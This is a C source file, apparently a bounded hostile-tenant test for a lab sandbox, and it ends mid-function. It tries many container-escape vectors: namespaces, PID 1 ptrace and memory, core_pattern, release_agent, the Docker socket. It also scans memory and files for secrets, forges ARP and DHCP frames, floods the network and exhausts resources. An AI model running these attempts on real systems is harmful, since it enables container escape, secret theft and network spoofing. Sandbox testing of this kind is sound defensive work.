/*
 * What a hostile student runs as root in a node: tests/hostile.rs compiles it, carries it into the
 * attacker's lab and runs it there. Each attempt prints one line, `NAME: blocked WHY` or
 * `NAME: DONE WHAT`; what is DONE got through. An attempt that can hang or kill runs in a child
 * with an alarm, so one that fails badly is `NAME: blocked died`.
 *
 * Everything is bounded by itself (MAX_*), so that a bound of labctl's that fails is seen and does
 * not hurt the machine that runs the test.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <net/route.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

typedef long (*attempt)(const char *argument);

static void say(const char *name, int done, const char *format, ...)
{
	char text[512];
	va_list list;
	va_start(list, format);
	vsnprintf(text, sizeof text, format, list);
	va_end(list);
	printf("%s: %s %s\n", name, done ? "DONE" : "blocked", text);
	fflush(stdout);
}

/* Runs an attempt in a child; one that gives back zero or more got through. */
static void attempt_in_child(const char *name, attempt body, const char *argument)
{
	int pipes[2], status = 0;
	long result[2] = { -1, 0 };
	if (pipe(pipes)) {
		say(name, 0, "no pipe");
		return;
	}
	pid_t pid = fork();
	if (pid == 0) {
		alarm(3);
		errno = 0;
		result[0] = body(argument);
		result[1] = errno;
		if (write(pipes[1], result, sizeof result) < 0) _exit(2);
		_exit(0);
	}
	close(pipes[1]);
	ssize_t got = pid < 0 ? 0 : read(pipes[0], result, sizeof result);
	close(pipes[0]);
	if (pid > 0) {
		kill(pid, SIGKILL);
		waitpid(pid, &status, 0);
	}
	if (got == sizeof result && result[0] >= 0)
		say(name, 1, "%ld", result[0]);
	else
		say(name, 0, "%s", got == sizeof result ? strerror(result[1]) : "died");
}

/* ---- escape ---------------------------------------------------------------------------------- */

static long open_write(const char *path) { return open(path, O_WRONLY | O_CLOEXEC); }
static long open_read(const char *path) { return open(path, O_RDONLY | O_CLOEXEC); }

static long open_and_write(const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	return fd < 0 ? -1 : write(fd, "1", 1);
}

/* The mode is put back at once: if it could be changed, other labs would see the change. */
static long change_mode(const char *path)
{
	struct stat before;
	if (stat(path, &before)) return -1;
	if (chmod(path, (before.st_mode & 07777) ^ 04)) return -1;
	chmod(path, before.st_mode & 07777);
	return 0;
}

static long create_in(const char *folder)
{
	char path[256];
	snprintf(path, sizeof path, "%s/hostile", folder);
	int fd = open(path, O_CREAT | O_WRONLY, 0600);
	if (fd >= 0) unlink(path);
	return fd;
}

static long rename_away(const char *path)
{
	char to[256];
	snprintf(to, sizeof to, "%s.hostile", path);
	if (rename(path, to)) return -1;
	rename(to, path);
	return 0;
}

static long try_unlink(const char *path) { return unlink(path); }
static long try_mount(const char *unused) { return (void)unused, mount("none", "/tmp", "tmpfs", 0, ""); }
static long try_mount_proc(const char *unused) { return (void)unused, mount("proc", "/tmp", "proc", 0, ""); }
static long try_remount(const char *path) { return mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL); }
static long try_umount(const char *path) { return umount2(path, MNT_DETACH); }
static long try_chroot(const char *path) { return chroot(path); }
static long try_unshare(const char *flag) { return unshare(strtol(flag, NULL, 0)); }
static long try_clone3(const char *flag)
{
	uint64_t arguments[11] = { strtoull(flag, NULL, 0) };
	arguments[4] = SIGCHLD;
	long pid = syscall(SYS_clone3, arguments, sizeof arguments);
	if (pid == 0) _exit(0);
	return pid;
}
static long try_setns(const char *path)
{
	int fd = open(path, O_RDONLY);
	return fd < 0 ? -1 : setns(fd, 0);
}
static long try_setns_pidfd(const char *unused)
{
	(void)unused;
	int fd = syscall(SYS_pidfd_open, 1, 0);
	return fd < 0 ? -1 : setns(fd, CLONE_NEWNS);
}
static long try_pidfd_getfd(const char *unused)
{
	(void)unused;
	int fd = syscall(SYS_pidfd_open, 1, 0);
	return fd < 0 ? -1 : syscall(SYS_pidfd_getfd, fd, 1, 0);
}
static long try_ptrace(const char *unused) { return (void)unused, ptrace(PTRACE_SEIZE, 1, 0, 0); }
static long try_readv(const char *unused)
{
	(void)unused;
	FILE *maps = fopen("/proc/1/maps", "r");
	unsigned long start = 0;
	char bytes[16];
	if (!maps || fscanf(maps, "%lx", &start) != 1) return -1;
	struct iovec ours = { bytes, sizeof bytes }, theirs = { (void *)start, sizeof bytes };
	return process_vm_readv(1, &ours, 1, &theirs, 1, 0);
}
static long try_mknod_block(const char *unused) { return (void)unused, mknod("/root/disk", S_IFBLK | 0600, makedev(254, 0)); }
static long try_mknod_mem(const char *unused) { return (void)unused, mknod("/root/mem", S_IFCHR | 0600, makedev(1, 1)); }
static long try_handle(const char *unused)
{
	(void)unused;
	struct { struct file_handle head; unsigned char bytes[128]; } handle = { .head.handle_bytes = 8 };
	handle.head.handle_type = 1;
	handle.bytes[0] = 2;
	return open_by_handle_at(AT_FDCWD, &handle.head, O_RDONLY);
}
static long try_call(const char *number) { return syscall(strtol(number, NULL, 0), 0, 0, 0, 0, 0, 0); }
static long try_call_path(const char *number) { return syscall(strtol(number, NULL, 0), "/tmp", "/tmp", 0, 0, 0); }
static long try_keyctl(const char *unused) { return (void)unused, syscall(SYS_keyctl, 0, -5, 1, 0, 0); }
static long try_add_key(const char *unused) { return (void)unused, syscall(SYS_add_key, "user", "hostile", "x", 1, -5); }
static long try_perf(const char *unused)
{
	(void)unused;
	uint32_t attributes[32] = { 1, sizeof attributes };
	return syscall(SYS_perf_event_open, attributes, -1, 0, -1, 0);
}
static long try_bpf(const char *unused)
{
	(void)unused;
	uint32_t map[18] = { 2, 4, 4, 1 };
	return syscall(SYS_bpf, 0, map, sizeof map);
}
static long try_uring(const char *unused)
{
	(void)unused;
	char parameters[128] = { 0 };
	return syscall(SYS_io_uring_setup, 1, parameters);
}
static long try_userfault(const char *unused) { return (void)unused, syscall(SYS_userfaultfd, O_CLOEXEC); }
static long try_socket(const char *family) { return socket(strtol(family, NULL, 0), family[0] == '3' ? SOCK_SEQPACKET : SOCK_STREAM, 0); }
static long try_hostname(const char *unused) { return (void)unused, sethostname("hostile", 7); }
static long try_clock(const char *unused)
{
	(void)unused;
	struct timespec now;
	clock_gettime(CLOCK_REALTIME, &now);
	return clock_settime(CLOCK_REALTIME, &now);
}
static long try_kill_first(const char *signal)
{
	if (kill(1, strtol(signal, NULL, 0))) return -1;
	/* The kernel takes it and drops it: process 1 has to be gone or stopped to have been hurt. */
	usleep(20000);
	char state = '?';
	FILE *stat = fopen("/proc/1/stat", "r");
	if (stat && fscanf(stat, "1 (%*[^)]) %c", &state) == 1 && state != 'Z' && state != 'T' && state != 'X') {
		errno = EPERM;
		return -1;
	}
	return 0;
}
static long try_nice(const char *unused) { return (void)unused, setpriority(PRIO_PROCESS, 0, -10); }
static long try_realtime(const char *unused)
{
	(void)unused;
	struct sched_param parameter = { .sched_priority = 10 };
	return sched_setscheduler(0, SCHED_FIFO, &parameter);
}
static long try_rlimit(const char *which)
{
	int resource = strtol(which, NULL, 0);
	struct rlimit limit;
	if (getrlimit(resource, &limit)) return -1;
	if (limit.rlim_max == RLIM_INFINITY) return 0;
	limit.rlim_max += 1;
	return setrlimit(resource, &limit);
}
static long try_oom(const char *unused)
{
	(void)unused;
	int fd = open("/proc/self/oom_score_adj", O_WRONLY);
	return fd < 0 ? -1 : write(fd, "-1000", 5);
}
static long try_setcap(const char *unused)
{
	(void)unused;
	uint32_t head[2] = { 0x20080522, 0 }, data[6] = { 0xffffffff, 0xffffffff, 0, 0xffffffff, 0xffffffff, 0 };
	return syscall(SYS_capset, head, data);
}
static long try_module(const char *unused)
{
	(void)unused;
	int fd = memfd_create("module", 0);
	return syscall(SYS_finit_module, fd, "", 0);
}
static long try_x32(const char *unused)
{
	(void)unused;
#ifdef __x86_64__
	return syscall(0x40000000 + SYS_unshare, CLONE_NEWUSER);
#else
	return -1;
#endif
}
static long try_i386(const char *unused)
{
	(void)unused;
#ifdef __x86_64__
	long result;
	/* unshare by its 32-bit number */
	__asm__ volatile("int $0x80" : "=a"(result) : "a"(310L), "b"((long)CLONE_NEWUSER) : "memory");
	if (result < 0) { errno = -result; return -1; }
	return result;
#else
	return -1;
#endif
}
static long try_tiocsti(const char *unused)
{
	(void)unused;
	int terminal = open("/dev/ptmx", O_RDWR | O_NOCTTY);
	return terminal < 0 ? -1 : ioctl(terminal, TIOCSTI, "x");
}
static long try_entropy(const char *unused)
{
	(void)unused;
	int fd = open("/dev/random", O_RDWR), entropy[3] = { 8, 4, 0 };
	return fd < 0 ? -1 : ioctl(fd, 0x40085203 /* RNDADDENTROPY */, entropy);
}
static long try_abstract(const char *name)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	size_t length = strlen(name);
	memcpy(address.sun_path + 1, name, length);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	return connect(fd, (void *)&address, offsetof(struct sockaddr_un, sun_path) + 1 + length);
}
static long try_unix(const char *path)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	snprintf(address.sun_path, sizeof address.sun_path, "%s", path);
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);
	return connect(fd, (void *)&address, sizeof address);
}

#define TEXT(number) TEXT_(number)
#define TEXT_(number) #number

static void escape(void)
{
	static const struct { const char *name; attempt body; const char *argument; } all[] = {
		{ "mount tmpfs", try_mount, "" },
		{ "mount proc", try_mount_proc, "" },
		{ "remount /", try_remount, "/" },
		{ "remount /proc/sys", try_remount, "/proc/sys" },
		{ "remount /bin", try_remount, "/bin" },
		{ "umount /proc", try_umount, "/proc" },
		{ "umount /bin", try_umount, "/bin" },
		{ "pivot_root", try_call_path, TEXT(SYS_pivot_root) },
		{ "chroot", try_chroot, "/tmp" },
		{ "unshare user", try_unshare, "0x10000000" },
		{ "unshare user and mount", try_unshare, "0x10020000" },
		{ "unshare net", try_unshare, "0x40000000" },
		{ "unshare pid", try_unshare, "0x20000000" },
		{ "unshare cgroup", try_unshare, "0x02000000" },
		{ "clone3 user", try_clone3, "0x10000000" },
		{ "clone3 time", try_clone3, "0x80" },
		{ "x32 unshare", try_x32, "" },
		{ "i386 unshare", try_i386, "" },
		{ "setns mount of 1", try_setns, "/proc/1/ns/mnt" },
		{ "setns net of 1", try_setns, "/proc/1/ns/net" },
		{ "setns pidfd", try_setns_pidfd, "" },
		{ "pidfd_getfd of 1", try_pidfd_getfd, "" },
		{ "ptrace 1", try_ptrace, "" },
		{ "process_vm_readv of 1", try_readv, "" },
		{ "write memory of 1", open_write, "/proc/1/mem" },
		{ "kill 1", try_kill_first, "9" },
		{ "stop 1", try_kill_first, "19" },
		{ "mknod disk", try_mknod_block, "" },
		{ "mknod mem", try_mknod_mem, "" },
		{ "open /dev/mem", open_read, "/dev/mem" },
		{ "open /dev/kmsg", open_write, "/dev/kmsg" },
		{ "open /dev/vda", open_read, "/dev/vda" },
		{ "open /dev/sda", open_read, "/dev/sda" },
		{ "open /dev/kvm", open_read, "/dev/kvm" },
		{ "open /dev/fuse", open_read, "/dev/fuse" },
		{ "open /dev/net/tun", open_read, "/dev/net/tun" },
		{ "add entropy", try_entropy, "" },
		{ "open_by_handle_at", try_handle, "" },
		{ "bpf", try_bpf, "" },
		{ "perf_event_open", try_perf, "" },
		{ "keyctl", try_keyctl, "" },
		{ "add_key", try_add_key, "" },
		{ "init_module", try_call, TEXT(SYS_init_module) },
		{ "finit_module", try_module, "" },
		{ "delete_module", try_call_path, TEXT(SYS_delete_module) },
		{ "kexec_load", try_call, TEXT(SYS_kexec_load) },
		{ "reboot", try_call, TEXT(SYS_reboot) },
		{ "swapon", try_call_path, TEXT(SYS_swapon) },
		{ "acct", try_call_path, TEXT(SYS_acct) },
		{ "syslog", try_call, TEXT(SYS_syslog) },
		{ "set the clock", try_clock, "" },
		{ "userfaultfd", try_userfault, "" },
		{ "io_uring", try_uring, "" },
		{ "fsopen", try_call_path, TEXT(SYS_fsopen) },
		{ "quotactl", try_call_path, TEXT(SYS_quotactl) },
		{ "fanotify", try_call, TEXT(SYS_fanotify_init) },
		{ "sethostname", try_hostname, "" },
		{ "AF_VSOCK", try_socket, TEXT(AF_VSOCK) },
		{ "AF_ALG", try_socket, TEXT(AF_ALG) },
		{ "TIOCSTI", try_tiocsti, "" },
		{ "more capabilities", try_setcap, "" },
		{ "a better nice value", try_nice, "" },
		{ "real time", try_realtime, "" },
		{ "a larger RLIMIT_FSIZE", try_rlimit, TEXT(1) },
		{ "a smaller OOM score", try_oom, "" },
		{ "core_pattern", open_and_write, "/proc/sys/kernel/core_pattern" },
		{ "modprobe", open_and_write, "/proc/sys/kernel/modprobe" },
		{ "hostname by /proc", open_and_write, "/proc/sys/kernel/hostname" },
		{ "vm settings", open_and_write, "/proc/sys/vm/overcommit_memory" },
		{ "fs settings", open_and_write, "/proc/sys/fs/file-max" },
		{ "binfmt_misc", open_and_write, "/proc/sys/fs/binfmt_misc/register" },
		{ "sysrq", open_write, "/proc/sysrq-trigger" },
		{ "uevent_helper", open_write, "/sys/kernel/uevent_helper" },
		{ "write /sys", open_write, "/sys/class/net/lo/mtu" },
		{ "kcore", open_and_write, "/proc/kcore" },
		{ "pagemap of the machine", open_write, "/proc/kpageflags" },
		{ "uid_map", open_and_write, "/proc/self/uid_map" },
		{ "release_agent", open_write, "/sys/fs/cgroup/memory/release_agent" },
		{ "memory limit v1", open_write, "/sys/fs/cgroup/memory/memory.limit_in_bytes" },
		{ "memory limit v2", open_write, "/sys/fs/cgroup/memory.max" },
		{ "leave the cgroup", open_write, "/sys/fs/cgroup/cgroup.procs" },
		{ "leave the pids cgroup", open_write, "/sys/fs/cgroup/pids/cgroup.procs" },
		{ "chmod /proc/meminfo", change_mode, "/proc/meminfo" },
		{ "chmod /proc/uptime", change_mode, "/proc/uptime" },
		{ "chmod /proc/cpuinfo", change_mode, "/proc/cpuinfo" },
		{ "chmod /proc/stat", change_mode, "/proc/stat" },
		{ "chmod /proc/tty/drivers", change_mode, "/proc/tty/drivers" },
		{ "chmod /dev/null of the host", change_mode, "/dev/null" },
		{ "chmod /bin/labctl", change_mode, "/bin/labctl" },
		{ "write /bin/labctl", open_write, "/bin/labctl" },
		{ "remove /bin/ping", try_unlink, "/bin/ping" },
		{ "create in /bin", create_in, "/bin" },
		{ "create in /lib", create_in, "/lib" },
		{ "rename /bin", rename_away, "/bin" },
		{ "rename /bin/labctl", rename_away, "/bin/labctl" },
		{ "rename /lib64", rename_away, "/lib64" },
		{ "rename /lib", rename_away, "/lib" },
		{ "Docker's socket", try_unix, "/var/run/docker.sock" },
		{ "Docker's socket in /run", try_unix, "/run/docker.sock" },
		{ "containerd's socket", try_unix, "/run/containerd/containerd.sock" },
		{ "Docker's abstract socket", try_abstract, "docker" },
		{ "containerd's abstract socket", try_abstract, "/containerd-shim/moby" },
	};
	for (size_t i = 0; i < sizeof all / sizeof *all; i++)
		attempt_in_child(all[i].name, all[i].body, all[i].argument);
}

/* ---- secrets --------------------------------------------------------------------------------- */

/* Words come reversed, so that neither this program nor its command line holds them. */
static char words_sought[16][64];
static int words_count;
static long found, looked;

static void look_into(const char *where, const char *bytes, size_t length)
{
	looked++;
	for (int i = 0; i < words_count; i++)
		if (memmem(bytes, length, words_sought[i], strlen(words_sought[i]))) {
			found++;
			printf("secret %d: DONE %s\n", i, where);
		}
}

static void look_into_file(const char *path)
{
	static char bytes[1 << 20];
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	if (fd < 0) return;
	/* Files of the program itself are the same in every lab. */
	for (int part = 0; part < 16; part++) {
		ssize_t got = read(fd, bytes, sizeof bytes);
		if (got <= 0) break;
		look_into(path, bytes, got);
	}
	close(fd);
}

static void look_below(const char *folder, int depth)
{
	struct dirent *entry;
	DIR *open_folder = depth < 8 ? opendir(folder) : NULL;
	if (!open_folder) return;
	while ((entry = readdir(open_folder))) {
		char path[1024];
		struct stat status;
		if (!strcmp(entry->d_name, ".") || !strcmp(entry->d_name, "..")) continue;
		snprintf(path, sizeof path, "%s/%s", strcmp(folder, "/") ? folder : "", entry->d_name);
		if (!strcmp(path, "/proc") || !strcmp(path, "/sys") || !strcmp(path, "/dev")) continue;
		if (lstat(path, &status)) continue;
		if (S_ISDIR(status.st_mode)) look_below(path, depth + 1);
		else if (S_ISREG(status.st_mode)) look_into_file(path);
	}
	closedir(open_folder);
}

static void look_into_memory(int pid)
{
	static char bytes[1 << 20];
	char path[64], line[512];
	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	FILE *maps = fopen(path, "r");
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	int memory = open(path, O_RDONLY | O_CLOEXEC);
	if (maps && memory >= 0)
		while (fgets(line, sizeof line, maps)) {
			unsigned long from, to;
			char mode[8];
			if (sscanf(line, "%lx-%lx %7s", &from, &to, mode) != 3 || mode[0] != 'r' || mode[1] != 'w')
				continue;
			for (; from < to; from += sizeof bytes) {
				size_t want = to - from < sizeof bytes ? to - from : sizeof bytes;
				ssize_t got = pread(memory, bytes, want, from);
				if (got > 0) look_into(path, bytes, got);
			}
		}
	if (maps) fclose(maps);
	if (memory >= 0) close(memory);
}

static void search(int count, char **reversed)
{
	for (int i = 0; i < count && i < 16; i++) {
		size_t length = strlen(reversed[i]);
		for (size_t j = 0; j < length && j < 63; j++)
			words_sought[words_count][j] = reversed[i][length - 1 - j];
		words_count++;
	}
	look_below("/", 0);
	for (int pid = 1; pid < 400; pid++) {
		static const char *const parts[] = { "environ", "cmdline", "root/etc/labctl/node.json" };
		if (pid == getpid() || kill(pid, 0)) continue;
		for (size_t i = 0; i < 3; i++) {
			char path[64];
			snprintf(path, sizeof path, "/proc/%d/%s", pid, parts[i]);
			look_into_file(path);
		}
		look_into_memory(pid);
	}
	printf("looked: %ld pieces, %ld finds\n", looked, found);
}

/* ---- network --------------------------------------------------------------------------------- */

static const unsigned char FORGED[6] = { 2, 0x66, 0x66, 0x66, 0x66, 0x66 };
static const unsigned char EVERYBODY[6] = { 255, 255, 255, 255, 255, 255 };

static int packet_socket(const char *interface, struct sockaddr_ll *to)
{
	int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_ALL));
	*to = (struct sockaddr_ll){ .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
				    .sll_ifindex = if_nametoindex(interface), .sll_halen = 6 };
	if (fd < 0 || bind(fd, (void *)to, sizeof *to)) {
		perror(interface);
		exit(1);
	}
	return fd;
}

static void header(unsigned char *frame, const unsigned char *to, const unsigned char *from, int type)
{
	memcpy(frame, to, 6);
	memcpy(frame + 6, from, 6);
	frame[12] = type >> 8;
	frame[13] = type;
}

static size_t arp_frame(unsigned char *frame, int operation, const char *sender, const char *target)
{
	header(frame, EVERYBODY, FORGED, ETH_P_ARP);
	memcpy(frame + 14, "\0\1\10\0\6\4\0", 7);
	frame[21] = operation;
	memcpy(frame + 22, FORGED, 6);
	inet_pton(AF_INET, sender, frame + 28);
	memset(frame + 32, 0, 6);
	inet_pton(AF_INET, target, frame + 38);
	return 42;
}

static uint16_t checksum(const unsigned char *bytes, size_t length, uint32_t sum)
{
	for (size_t i = 0; i < length; i++) sum += bytes[i] << (i % 2 ? 0 : 8);
	while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
	return ~sum;
}

static size_t udp_frame(unsigned char *frame, const char *from, const char *to, int from_port, int to_port,
			const void *payload, size_t length)
{
	size_t total = 28 + length;
	header(frame, EVERYBODY, FORGED, ETH_P_IP);
	unsigned char *ip = frame + 14, *udp = frame + 34;
	memset(ip, 0, 28);
	ip[0] = 0x45, ip[2] = total >> 8, ip[3] = total, ip[8] = 64, ip[9] = 17;
	inet_pton(AF_INET, from, ip + 12);
	inet_pton(AF_INET, to, ip + 16);
	uint16_t sum = checksum(ip, 20, 0);
	ip[10] = sum >> 8, ip[11] = sum;
	udp[0] = from_port >> 8, udp[1] = from_port, udp[2] = to_port >> 8, udp[3] = to_port;
	udp[4] = (8 + length) >> 8, udp[5] = 8 + length;
	memcpy(udp + 8, payload, length);
	return 14 + total;
}

/* Whoever answers ARP for these addresses. */
static void arp(const char *interface, const char *own, int count, char **addresses)
{
	struct sockaddr_ll to;
	unsigned char frame[2048];
	int fd = packet_socket(interface, &to), answered[64] = { 0 };
	for (int round = 0; round < 2; round++) {
		for (int i = 0; i < count; i++)
			if (sendto(fd, frame, arp_frame(frame, 1, own, addresses[i]), 0, (void *)&to, sizeof to) < 0)
				perror("arp");
		struct pollfd wait = { fd, POLLIN, 0 };
		while (poll(&wait, 1, 300) > 0) {
			ssize_t got = recv(fd, frame, sizeof frame, 0);
			if (got < 42 || frame[12] != 8 || frame[13] != 6 || frame[21] != 2) continue;
			for (int i = 0; i < count && i < 64; i++) {
				unsigned char address[4];
				if (inet_pton(AF_INET, addresses[i], address) == 1 && !memcmp(frame + 28, address, 4))
					answered[i] = 1;
			}
		}
	}
	for (int i = 0; i < count && i < 64; i++) {
		char name[128];
		snprintf(name, sizeof name, "arp %s", addresses[i]);
		say(name, answered[i], "");
	}
}

/* Connections to everything named ADDRESS:PORT, all at once, over a default route into the lab. */
static void reach(const char *interface, int count, char **targets)
{
	int route = socket(AF_INET, SOCK_DGRAM, 0);
	struct rtentry entry = { .rt_flags = RTF_UP };
	entry.rt_dst.sa_family = entry.rt_genmask.sa_family = AF_INET;
	entry.rt_dev = (char *)interface;
	if (ioctl(route, SIOCADDRT, &entry) && errno != EEXIST) perror("route");
	struct pollfd waits[64];
	int state[64] = { 0 };
	for (int i = 0; i < count && i < 64; i++) {
		char host[64];
		snprintf(host, sizeof host, "%s", targets[i]);
		char *port = strrchr(host, ':');
		struct sockaddr_in address = { .sin_family = AF_INET };
		if (!port) continue;
		*port++ = 0;
		inet_pton(AF_INET, host, &address.sin_addr);
		address.sin_port = htons(atoi(port));
		waits[i] = (struct pollfd){ socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0), POLLOUT, 0 };
		if (!connect(waits[i].fd, (void *)&address, sizeof address)) state[i] = 1;
		else if (errno != EINPROGRESS) waits[i].fd = -1;
	}
	struct timespec begun, now;
	int pending;
	clock_gettime(CLOCK_MONOTONIC, &begun);
	do {
		if (poll(waits, count, 100) < 0) break;
		for (int i = pending = 0; i < count; i++)
			if (waits[i].fd >= 0 && !waits[i].revents) pending++;
			else if (waits[i].fd >= 0) {
				int error = 0;
				socklen_t size = sizeof error;
				getsockopt(waits[i].fd, SOL_SOCKET, SO_ERROR, &error, &size);
				state[i] = error == 0 ? 1 : error == ECONNREFUSED ? 2 : 0;
				waits[i].fd = -1;
			}
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while (pending && now.tv_sec - begun.tv_sec < 2);
	for (int i = 0; i < count; i++) {
		char name[128];
		snprintf(name, sizeof name, "tcp %s", targets[i]);
		/* A refusal is an answer as well: somebody is there. */
		say(name, state[i] != 0, state[i] == 2 ? "refused" : state[i] ? "connected" : "");
	}
}

/* What an interface says of itself when it comes up, whoever listens: multicast listener reports (behind a
 * hop-by-hop header), router solicitations, the look for its own address in use. The host's ends of
 * Docker's cables do, and hear nothing: the bridge takes what comes in there. */
static int announces(const unsigned char *frame)
{
	static const unsigned char nobody[16];
	return frame[20] == 0 || (frame[20] == 58 && (frame[54] == 133 || frame[54] == 143)) ||
	       !memcmp(frame + 22, nobody, 16);
}

/* Datagrams to addresses of the host, addressed to everybody on the wire; the host's test listens. */
static void inject(const char *interface, const char *port, const char *from, int count, char **addresses)
{
	struct sockaddr_ll to;
	unsigned char frame[2048];
	int fd = packet_socket(interface, &to), sent = 0;
	for (int i = 0; i < count; i++) {
		size_t length = udp_frame(frame, from, addresses[i], 4000, atoi(port), "hostile", 7);
		for (int round = 0; round < 3; round++)
			sent += sendto(fd, frame, length, 0, (void *)&to, sizeof to) > 0;
	}
	printf("injected: %d\n", sent);
	/* IPv6: whoever answers a ping to all nodes of the link. */
	static const unsigned char all[6] = { 0x33, 0x33, 0, 0, 0, 1 };
	static const unsigned char us[16] = { 0xfe, 0x80, [15] = 0x66 }, everyone[16] = { 0xff, 2, [15] = 1 };
	int answers = 0;
	header(frame, all, FORGED, 0x86dd);
	unsigned char *ip = frame + 14, *icmp = frame + 54;
	memset(ip, 0, 48);
	ip[0] = 0x60, ip[5] = 8, ip[6] = 58, ip[7] = 255;
	memcpy(ip + 8, us, 16);
	memcpy(ip + 24, everyone, 16);
	icmp[0] = 128, icmp[5] = 66;
	/* The sum over addresses, length and protocol (8 + 58), then over the message. */
	uint16_t sum = ~checksum(ip + 8, 32, 66);
	sum = checksum(icmp, 8, sum);
	icmp[2] = sum >> 8, icmp[3] = sum;
	if (sendto(fd, frame, 62, 0, (void *)&to, sizeof to) < 0) perror("ping6");
	struct pollfd wait = { fd, POLLIN, 0 };
	struct timespec begun, now;
	clock_gettime(CLOCK_MONOTONIC, &begun);
	do {
		if (poll(&wait, 1, 200) > 0 && recv(fd, frame, sizeof frame, 0) >= 55 && frame[12] == 0x86 &&
		    frame[13] == 0xdd && memcmp(frame + 6, FORGED, 6) && !announces(frame))
			answers++;
		clock_gettime(CLOCK_MONOTONIC, &now);
	} while ((now.tv_sec - begun.tv_sec) * 1000 + (now.tv_nsec - begun.tv_nsec) / 1000000 < 700);
	say("anybody by IPv6", answers > 0, "%d", answers);
}

/* Gratuitous ARP for the server's address, and a DHCP server's OFFER and ACK to everybody. */
static void forge(const char *interface, const char *server)
{
	struct sockaddr_ll to;
	unsigned char frame[2048], dhcp[300] = { 2, 1, 6, 0, 0x66, 0x66, 0x66, 0x66 };
	int fd = packet_socket(interface, &to), sent = 0;
	inet_pton(AF_INET, "10.66.0.250", dhcp + 16);
	inet_pton(AF_INET, server, dhcp + 20);
	memcpy(dhcp + 236, "\x63\x82\x53\x63\x35\1\2\xff", 8);
	for (int round = 0; round < 20; round++) {
		sent += sendto(fd, frame, arp_frame(frame, 2, server, server), 0, (void *)&to, sizeof to) > 0;
		dhcp[242] = round % 2 ? 5 : 2;
		size_t length = udp_frame(frame, server, "255.255.255.255", 67, 68, dhcp, sizeof dhcp);
		sent += sendto(fd, frame, length, 0, (void *)&to, sizeof to) > 0;
	}
	printf("forged: %d\n", sent);
}

/* Counts forged frames until standard input ends. */
static void watch(const char *interface)
{
	struct sockaddr_ll to;
	unsigned char frame[2048];
	int fd = packet_socket(interface, &to);
	long seen = 0;
	printf("watching\n");
	fflush(stdout);
	for (;;) {
		struct pollfd waits[2] = { { fd, POLLIN, 0 }, { 0, POLLIN, 0 } };
		if (poll(waits, 2, -1) < 0) break;
		if (waits[0].revents && recv(fd, frame, sizeof frame, 0) >= 14 && !memcmp(frame + 6, FORGED, 6)) seen++;
		/* What has come is counted first. */
		if (!waits[0].revents && waits[1].revents && read(0, frame, sizeof frame) <= 0) break;
	}
	printf("seen: %ld\n", seen);
}

static long milliseconds(void)
{
	struct timespec now;
	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static void flood(const char *interface, long for_ms)
{
	struct sockaddr_ll to;
	unsigned char frame[2048], payload[1300] = { 0 };
	int fd = packet_socket(interface, &to);
	long sent = 0, end = milliseconds() + for_ms;
	size_t length = udp_frame(frame, "10.66.0.2", "255.255.255.255", 9, 9, payload, sizeof payload);
	while (milliseconds() < end)
		for (int i = 0; i < 200; i++) sent += sendto(fd, frame, length, MSG_DONTWAIT, (void *)&to, sizeof to) > 0;
	printf("flooded: %ld\n", sent);
}

/* ---- exhaustion ------------------------------------------------------------------------------ */

#define MAX_PROCESSES 400
#define MAX_MEMORY (480L << 20)
#define MAX_DISK (96L << 20)
#define MAX_FILES 12000
#define MAX_DESCRIPTORS 12000

static void processes(void)
{
	static pid_t all[MAX_PROCESSES];
	int count = 0;
	for (; count < MAX_PROCESSES; count++) {
		all[count] = fork();
		if (all[count] < 0) break;
		if (all[count] == 0) {
			alarm(10);
			pause();
			_exit(0);
		}
	}
	printf("processes: %d\n", count);
	fflush(stdout);
	for (int i = 0; i < count; i++) kill(all[i], SIGKILL);
	for (int i = 0; i < count; i++) waitpid(all[i], NULL, 0);
}

/* The child says how far it came, because it may be killed. */
static void memory(void)
{
	long *reached = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t pid = fork();
	if (pid == 0) {
		for (; *reached < MAX_MEMORY; *reached += 1 << 20) {
			char *more = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
			if (more == MAP_FAILED) break;
			memset(more, 1, 1 << 20);
		}
		_exit(0);
	}
	waitpid(pid, NULL, 0);
	printf("memory: %ld\n", *reached >> 20);
}

static void disk(const char *folder)
{
	static char bytes[1 << 20];
	char path[256];
	long written = 0;
	memset(bytes, 1, sizeof bytes);
	signal(SIGXFSZ, SIG_IGN);
	for (int file = 0; file < 4 && written < MAX_DISK; file++) {
		snprintf(path, sizeof path, "%s/hostile%d", folder, file);
		int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC, 0600);
